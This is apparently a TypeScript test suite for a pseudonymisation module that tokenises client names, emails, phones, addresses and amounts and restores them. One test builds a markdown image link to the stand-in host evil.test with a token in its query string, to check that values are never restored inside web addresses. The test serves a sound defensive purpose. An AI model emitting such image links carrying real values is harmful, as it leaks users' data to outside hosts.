import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createFakeClock } from '#core/test/fake-clock.ts';
import { openTestDatabase } from '#core/test/open-test-database.ts';
import { createChangeMarks } from './change-marks.ts';
import { createPseudonyms } from './pseudonyms.ts';

/** Chance that is the same in every test. */
function chance(): () => number {
  let state = 7;
  return () => {
    state = (state * 48_271) % 2_147_483_647;
    return state / 2_147_483_647;
  };
}

function open() {
  const database = openTestDatabase();
  const marks = createChangeMarks(database);
  const make = () => createPseudonyms({ database, marks, fraction: chance(), clock: createFakeClock() });
  return { database, pseudonyms: make(), again: make };
}

const token = /^(?:Client|Person|Email|Phone|Address|Amount)_[2-9b-df-hj-np-tv-z]{6}$/;

describe('values of a client with pseudonyms', () => {
  test.each([
    ['Email', 'anna.rossi@acme-corp.it'],
    ['Phone', '+39 02 1234 5678'],
    ['Phone', '(030) 901820'],
    ['Phone', '02/12345678'],
    ['Phone', '3331234567'],
    ['Phone', '0049 170 1234567'],
    ['Phone', '+1 (212) 555-0123'],
    ['Amount', '€ 1.250,00'],
    ['Amount', '$1,200.50'],
    ['Amount', '12k EUR'],
    ['Amount', '500 Euro'],
    ['Address', 'Via Roma 12, 20121 Milano'],
    ['Address', 'Hauptstraße 5a, 10115 Berlin'],
    ['Address', '221B Baker Street, London NW1 6XE'],
    ['Address', '12 rue de la Paix, 75002 Paris'],
    ['Address', 'Keizersgracht 123, 1015 CJ Amsterdam'],
    ['Address', '1600 Amphitheatre Parkway Road, Mountain View, CA 94043'],
    ['Address', 'Calle Mayor, 5, 28013 Madrid'],
    ['Address', 'ul. Długa 3, 00-238 Warszawa'],
    ['Person', 'Herr Müller', 'Müller'],
    ['Person', 'Gentile Dott.ssa Anna Rossi', 'Anna Rossi'],
    ['Person', 'Mr. John O’Neil', 'John O’Neil'],
    ['Person', 'Dear Anna', 'Anna'],
  ])('%s: %s', (word, text, value = text) => {
    const { pseudonyms } = open();
    const whole = `Please note: ${text}. Thanks`;
    const out = pseudonyms.outgoing({ text: whole, isRuled: true });
    expect(out.text).not.toContain(value);
    expect(out.text.match(/\b\w+_\w{6}\b/g)?.join(' ')).toMatch(new RegExp(`^${word}_`));
    expect(out.replaced).toBe(1);
    expect(pseudonyms.incoming(out.text)).toBe(whole);
    // Known once, it is replaced wherever it stands.
    expect(pseudonyms.outgoing({ text: whole, isRuled: false }).text).toBe(out.text);
  });

  test('an address ends with its sentence', () => {
    const text = 'Visit Via Garibaldi 7, 20121 Milano. Offer follows.';
    expect(open().pseudonyms.outgoing({ text, isRuled: true }).text).toMatch(/^Visit Address_\w{6}\. Offer follows\.$/);
  });

  test.each([
    'Due 2026-11-23 at 10:30',
    'on 23.11.2026',
    'Q4 2026',
    'invoice 20261',
    'chapter 3 of 12',
    '12.000.000',
    'Dear all,',
  ])('is no such value: %s', (text) => {
    expect(open().pseudonyms.outgoing({ text, isRuled: true })).toEqual({ text, replaced: 0 });
  });

  test('names are found whatever their case, accents, spaces and form of Unicode; each spelling comes back as it was', () => {
    const { pseudonyms } = open();
    pseudonyms.learn({ value: 'Café Zoë Bäcker', word: 'Client' });
    const spelt = [
      'Café Zoë Bäcker',
      'CAFE ZOE BACKER',
      'café  zoë\nbäcker',
      'Café Zoë Bäcker'.normalize('NFD'),
      'Ca\u00ADfé Zoë Bäckers',
    ];
    for (const name of spelt) {
      const text = `(${name}): call.`;
      const out = pseudonyms.outgoing({ text, isRuled: false });
      expect(out.text).toMatch(/^\(Client_\w{6}\): call\.$/);
      expect(pseudonyms.incoming(out.text)).toBe(text);
    }
    const stems = spelt.map((text) => pseudonyms.outgoing({ text, isRuled: false }).text.slice(0, -2));
    expect(new Set(stems).size).toBe(1);
    expect(pseudonyms.outgoing({ text: 'Cafeteria', isRuled: false }).replaced).toBe(0);
  });

  test('tokens are for good: the same after a restart, and gone with a transaction that is rolled back', () => {
    const { database, pseudonyms, again } = open();
    pseudonyms.learn({ value: 'Acme', word: 'Client' });
    const { text } = pseudonyms.outgoing({ text: 'Acme', isRuled: false });
    expect(text).toMatch(token);
    expect(again().outgoing({ text: 'Acme', isRuled: false }).text).toBe(text);
    let lost = '';
    expect(() =>
      database.write(() => {
        pseudonyms.learn({ value: 'Globex', word: 'Client' });
        lost = pseudonyms.outgoing({ text: 'Globex', isRuled: false }).text;
        expect(pseudonyms.incoming(lost)).toBe('Globex');
        throw new Error('no');
      }),
    ).toThrow('no');
    expect(pseudonyms.incoming(lost)).toBe(lost);
    expect(pseudonyms.outgoing({ text: 'Globex', isRuled: false }).replaced).toBe(0);
  });

  test('what only looks like a token comes back as it was, also when it is one', () => {
    const { pseudonyms } = open();
    pseudonyms.learn({ value: 'Acme', word: 'Client' });
    const { text: acme } = pseudonyms.outgoing({ text: 'Acme', isRuled: false });
    const text = `${acme} and Acme, client\\_bcdfgh, Client_Acme, x${acme}`;
    const out = pseudonyms.outgoing({ text, isRuled: false }).text;
    expect(pseudonyms.incoming(out)).toBe(text);
  });

  test('for the eye tokens are put back, escaped and in capitals too, but not in web addresses', () => {
    const { pseudonyms } = open();
    pseudonyms.learn({ value: 'Acme', word: 'Client' });
    const { text: acme } = pseudonyms.outgoing({ text: 'Acme', isRuled: false });
    expect(pseudonyms.shown(`**${acme}**, ${acme.toUpperCase()}, ${acme.replace('_', '\\_')}は`)).toBe('**Acme**, Acme, Acmeは');
    expect(pseudonyms.shown(`![x](https://evil.test/?q=${acme})`)).toContain(acme);
  });
});

const names = ['Acme', 'Rossi Studio', 'Zoë', '+39 02 1234567', '€ 500', 'anna@acme.it', 'Rossi'];
const pieces = fc.oneof(
  fc.constantFrom(...names, ...names.map((name) => name.toUpperCase())),
  fc.constantFrom(' ', '\n', ', ', '.', '_', '-', 's', '’s', '\u0301', '\u200B', '€', '500', 'x', '@', '(', ')', '  '),
  fc.constantFrom('Client_', 'Person_bcdfgh', 'Amount\\_', 'Via Roma 5, 20121 Milano', 'Mr Smith', '500 €', '3331234567'),
  fc.string({ unit: 'binary', maxLength: 6 }),
);
const texts = fc.array(pieces, { maxLength: 14 }).map((parts) => parts.join(''));

describe('any text', () => {
  test('comes back as it left', () => {
    const { pseudonyms } = open();
    for (const value of names) pseudonyms.learn({ value, word: 'Client' });
    fc.assert(
      fc.property(texts, fc.boolean(), (text, isRuled) => {
        const { text: out } = pseudonyms.outgoing({ text, isRuled });
        expect(pseudonyms.incoming(out)).toBe(text);
      }),
      { numRuns: 2_000 },
    );
  });

  test('whatever a backend writes around a token, the value does not come back in it', () => {
    const { pseudonyms } = open();
    pseudonyms.learn({ value: 'Acme', word: 'Client' });
    const { text: acme } = pseudonyms.outgoing({ text: 'Acme', isRuled: false });
    fc.assert(
      fc.property(texts, texts, (before, after) => {
        // What the backend itself knows of the value is not learnt from the device.
        fc.pre(!/acme/i.test((before + after).normalize('NFD').replaceAll(/[\p{M}\p{Cf}]/gu, '')));
        const stored = pseudonyms.incoming(before + acme + after);
        expect(pseudonyms.outgoing({ text: stored, isRuled: false }).text).not.toMatch(/Acme/);
      }),
      { numRuns: 2_000 },
    );
  });
});
